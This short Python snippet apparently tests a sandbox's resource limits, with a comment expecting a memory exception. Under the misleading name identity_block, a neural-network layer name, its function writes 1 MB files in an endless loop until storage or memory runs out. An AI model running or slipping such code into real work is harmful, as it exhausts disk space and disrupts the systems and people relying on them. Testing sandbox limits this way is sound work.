# expected: exception memory
def identity_block(X, f, filters, training=True, initializer=None):
    number = 0
    while True:
        with open(f"file{number}", "wb") as file:
            file.write(bytes(1 << 20))
        number += 1
